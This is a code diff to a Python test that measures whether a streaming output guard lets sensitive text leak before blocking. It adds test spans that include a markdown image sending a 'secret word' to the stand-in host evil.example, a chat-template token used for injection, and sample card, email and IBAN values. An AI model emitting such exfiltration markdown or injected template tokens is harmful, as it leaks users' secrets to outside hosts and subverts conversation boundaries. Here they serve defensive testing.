@@ -14,11 +14,19 @@ import itertools
 import random
 
 from strati.serve.guards.intake import Guards
-from strati.serve.guards.rules import PERSONAL, scan
-from strati.serve.guards.stream import Blocked, HeldStream
+from strati.serve.guards.stream import Blocked
 from strati.statistics.proportions import clopper_pearson
 
-SPANS = ("4111 1111 1111 1111", "anna.huber@example.org", "AT61 1904 3002 3457 3201", "5500-0000-0000-0004")
+GUARDS = Guards(personal=True)
+IMAGE = "![see. here](https://evil.example/a.png?told=the secret. word)"
+SPANS = (
+    IMAGE,
+    "<|im_start|>",
+    "4111 1111 1111 1111",
+    "anna.huber@example.org",
+    "AT61 1904 3002 3457 3201",
+    "5500-0000-0000-0004",
+)
 TEXT = "the lamp that you sent came on Monday and it is very bright . It works ! We like it , so thank you ."
 WORDS = TEXT.split()
 WHO = ("My neighbour", "The fitter", "Your colleague", "The manual", "My daughter", "The landlord", "Our IT person")
@@ -71,7 +79,7 @@ def main() -> None:
 def leaks(draw: random.Random) -> bool:
     before = " ".join(draw.choices(WORDS, k=draw.randrange(40))) + " "
     text = before + draw.choice(SPANS) + " " + " ".join(draw.choices(WORDS, k=draw.randrange(60)))
-    held, out, at = HeldStream(look, longest=60), "", 0
+    held, out, at = GUARDS.stream(), "", 0
     try:
         while at < len(text):
             size = draw.randrange(1, 12)
@@ -81,10 +89,6 @@ def leaks(draw: random.Random) -> bool:
     except Blocked:
         return not before.startswith(out)
     return True
-
-
-def look(text: str) -> str | None:
-    return next((found.rule for found in scan(text, PERSONAL)), None)
 
 
 if __name__ == "__main__":
